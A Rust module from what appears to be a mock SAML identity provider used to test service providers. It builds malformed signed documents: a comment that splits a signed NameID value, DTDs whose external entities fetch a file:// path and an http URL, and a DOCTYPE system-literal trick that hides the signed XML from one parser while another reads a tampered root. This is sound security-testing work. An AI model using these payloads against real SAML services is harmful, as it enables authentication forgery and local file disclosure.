//! Stage 3, document level: the `[tamper.document]` edits, attacks on how an SP's XML parser reads
//! the signed document's text rather than on its element tree: a comment that splits a signed
//! value, a DTD with entities, raw markup where a parser differential needs it.
//!
//! The edits work in two steps around serialization. [`mark`] edits the tree (comments are tree
//! nodes) and leaves a processing-instruction marker wherever raw markup goes; [`write`] puts
//! the markup in place of each marker and the DOCTYPE after the XML declaration. Never used by a
//! valid scenario; every edit must find its target, as every tamper edit must.

use super::tamper::TamperError;
use crate::scenario::DocumentEdits;
use crate::xml::{Element, Node, PathMiss, XmlPath};

/// The canaries a scenario's markup may name, which a test chooses so it can see whether an SP
/// fetched or echoed them (`{canary-url}`, `{canary-file}` in `[tamper.document]`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Canaries {
    /// An `http://` URL (`{canary-url}`).
    pub url: String,
    /// A local file's absolute path (`{canary-file}`; a `file://` URL is `file://{canary-file}`).
    pub file: String,
}

impl Default for Canaries {
    fn default() -> Self {
        // Port 9 is discard: nothing answers there on a test machine.
        Canaries { url: "http://127.0.0.1:9/mockidp-canary".into(), file: "/etc/hostname".into() }
    }
}

impl Canaries {
    /// `text` with `{canary-url}` and `{canary-file}` replaced.
    fn fill(&self, text: &str) -> String {
        text.replace("{canary-url}", &self.url).replace("{canary-file}", &self.file)
    }
}

/// The processing-instruction target of the markers; no SAML document has one.
const MARKER: &str = "mockidp-raw-markup";

/// The raw markup that replaces each marker, by marker number.
#[derive(Debug, Default)]
pub(crate) struct Marked {
    markup: Vec<String>,
}

/// The tree edits: comments into text, markers where markup goes.
pub(crate) fn mark(root: &mut Element, edits: &DocumentEdits, canaries: &Canaries) -> Result<Marked, TamperError> {
    for (path, prefix) in &edits.comment_after {
        for at in select(root, "comment-after", path)? {
            let element = root.at_mut(&at).expect("select returns paths into this tree");
            let text = element.text_content();
            let rest = match text.strip_prefix(prefix.as_str()) {
                Some(rest) if !rest.is_empty() => rest.to_owned(),
                _ => return Err(TamperError::NotAPrefix { path: path.to_string(), prefix: prefix.clone(), text }),
            };
            element.children = vec![Node::Text(prefix.clone()), Node::Comment(String::new()), Node::Text(rest)];
        }
    }
    let mut marked = Marked::default();
    for (path, markup) in &edits.markup {
        for at in select(root, "markup", path)? {
            let marker = marked.add(canaries.fill(markup));
            root.at_mut(&at).expect("select returns paths into this tree").children = vec![marker];
        }
    }
    for (path, markup) in &edits.before {
        let selected = select(root, "before", path)?;
        // From the last, so that inserting does not move the positions still to come.
        for at in selected.into_iter().rev() {
            let marker = marked.add(canaries.fill(markup));
            let Some((index, parent)) = at.split_last() else {
                return Err(TamperError::NoTarget {
                    edit: "document.before",
                    target: "element below the root",
                    hint: " (hint: markup before the root element is `doctype`)",
                });
            };
            let parent = root.at_mut(parent).expect("select returns paths into this tree");
            let position = element_position(parent, *index);
            parent.children.insert(position, marker);
        }
    }
    Ok(marked)
}

/// The serialized document with each marker replaced by its markup and the DOCTYPE in place.
pub(crate) fn write(mut text: String, marked: &Marked, edits: &DocumentEdits, canaries: &Canaries) -> String {
    for (number, markup) in marked.markup.iter().enumerate() {
        text = text.replacen(&marker_text(number), markup, 1);
    }
    if let Some(doctype) = &edits.doctype {
        let at = if text.starts_with("<?xml") { text.find("?>").map_or(0, |end| end + 2) } else { 0 };
        text.insert_str(at, &canaries.fill(doctype));
    }
    text
}

/// `signed-in-doctype-literal`: `<!DOCTYPE {root} SYSTEM 'x">{signed}<!--'>` after the XML
/// declaration of `text` (the tampered document), and `-->` after its root.
pub(crate) fn hide_signed_in_doctype(
    mut text: String,
    signed: &str,
    root: &str,
    has_doctype: bool,
) -> Result<String, TamperError> {
    let fail = |reason| Err(TamperError::SignedInDoctype { reason });
    if has_doctype {
        return fail("a document has one DOCTYPE, and `doctype` writes another (hint: drop one of them)");
    }
    // XML 1.0 production [11]: a single-quoted SystemLiteral ends at the first `'`.
    if signed.contains('\'') {
        return fail("the signed document holds a `'`, which would end the system literal early");
    }
    // XML 1.0 production [15]: a comment holds no `--`; the re-parse reads the tampered root as one.
    if text.contains("--") {
        return fail("the tampered document holds `--`, which a comment cannot (hint: drop comment edits)");
    }
    let at = if text.starts_with("<?xml") { text.find("?>").map_or(0, |end| end + 2) } else { 0 };
    text.insert_str(at, &format!("<!DOCTYPE {root} SYSTEM 'x\">{signed}<!--'>"));
    text.push_str("-->");
    Ok(text)
}

impl Marked {
    fn add(&mut self, markup: String) -> Node {
        let node = Node::ProcessingInstruction(MARKER.into(), self.markup.len().to_string());
        self.markup.push(markup);
        node
    }
}

fn marker_text(number: usize) -> String {
    format!("<?{MARKER} {number}?>")
}

/// The index in `parent.children` (all nodes) of its `index`-th child element.
fn element_position(parent: &Element, index: usize) -> usize {
    parent
        .children
        .iter()
        .enumerate()
        .filter(|(_, node)| matches!(node, Node::Element(_)))
        .nth(index)
        .map_or(parent.children.len(), |(position, _)| position)
}

fn select(root: &Element, edit: &'static str, path: &XmlPath) -> Result<Vec<Vec<usize>>, TamperError> {
    path.select(root).map_err(|miss: PathMiss| TamperError::DocumentPath {
        edit,
        path: path.to_string(),
        miss: Box::new(miss),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::xml::{parse, to_document};

    fn edits(toml: &str) -> DocumentEdits {
        toml::from_str(toml).unwrap()
    }

    fn run(xml: &str, edits: &DocumentEdits) -> Result<String, TamperError> {
        let mut root = parse(xml).unwrap();
        let canaries = Canaries { url: "http://127.0.0.1:4242/c".into(), file: "/tmp/canary".into() };
        let marked = mark(&mut root, edits, &canaries)?;
        Ok(write(to_document(&root), &marked, edits, &canaries))
    }

    #[test]
    fn a_comment_splits_the_text_after_the_prefix() {
        let out = run(
            "<R><N>admin@example.com.evil.example</N></R>",
            &edits("comment-after = { \"R/N\" = \"admin@example.com\" }"),
        )
        .unwrap();
        assert!(out.ends_with("<R><N>admin@example.com<!---->.evil.example</N></R>"), "{out}");
    }

    #[test]
    fn the_prefix_must_be_a_proper_prefix() {
        for prefix in ["bob", "admin@example.com.evil.example"] {
            let toml = format!("comment-after = {{ \"R/N\" = \"{prefix}\" }}");
            let error = run("<R><N>admin@example.com.evil.example</N></R>", &edits(&toml)).unwrap_err();
            assert!(error.to_string().contains("is not a proper prefix"), "{error}");
        }
    }

    #[test]
    fn markup_doctype_and_canaries_are_written_as_is() {
        let toml = r#"
            doctype = '<!DOCTYPE R [<!ENTITY x SYSTEM "file://{canary-file}"><!ENTITY y SYSTEM "{canary-url}">]>'
            markup = { "R/N" = "&x;&y;" }
            before = { "R/N" = "<!--a-->" }
        "#;
        let out = run("<R><N>v</N></R>", &edits(toml)).unwrap();
        assert_eq!(
            out,
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE R [<!ENTITY x SYSTEM \"file:///tmp/canary\">\
             <!ENTITY y SYSTEM \"http://127.0.0.1:4242/c\">]><R><!--a--><N>&x;&y;</N></R>"
        );
    }

    #[test]
    fn the_signed_text_goes_into_a_single_quoted_system_literal() {
        let out = hide_signed_in_doctype("<?xml version=\"1.0\"?><R>evil</R>".into(), "<R>signed</R>", "R", false);
        assert_eq!(out.unwrap(), "<?xml version=\"1.0\"?><!DOCTYPE R SYSTEM 'x\"><R>signed</R><!--'><R>evil</R>-->");
        for (text, signed, doctype, needle) in [
            ("<R/>", "<R a='1'/>", false, "holds a `'`"),
            ("<R><!--c--></R>", "<R/>", false, "holds `--`"),
            ("<R/>", "<R/>", true, "one DOCTYPE"),
        ] {
            let error = hide_signed_in_doctype(text.into(), signed, "R", doctype).unwrap_err();
            assert!(error.to_string().contains(needle), "{error}");
        }
    }

    #[test]
    fn a_path_that_selects_nothing_is_an_error() {
        let error = run("<R><N>v</N></R>", &edits("markup = { \"R/M\" = \"&x;\" }")).unwrap_err();
        assert!(error.to_string().starts_with("[tamper] document.markup \"R/M\""), "{error}");
    }
}
